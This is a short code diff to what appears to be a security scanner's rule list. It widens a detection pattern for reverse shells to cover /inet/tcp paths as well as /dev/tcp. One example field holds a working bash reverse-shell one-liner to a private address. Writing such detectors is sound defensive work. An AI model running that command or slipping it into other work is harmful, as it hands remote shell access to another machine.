@@ -33,7 +33,7 @@ export const hostile: ScanRule[] = [
     name: 'reverse-shell-device',
     set: 'hostile',
     kind: 'text',
-    pattern: String.raw`/dev/(tcp|udp)/[^/\s]+/\S+`,
+    pattern: String.raw`/dev/(tcp|udp)/[^/\s]+/\S+|/inet[46]?/(tcp|udp)/\d+/[^/\s]+/\d+`,
     reason: 'a shell that talks to another machine',
     hint: HINT,
     examples: { match: shell('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'), not: shell('ls /dev/tty') },
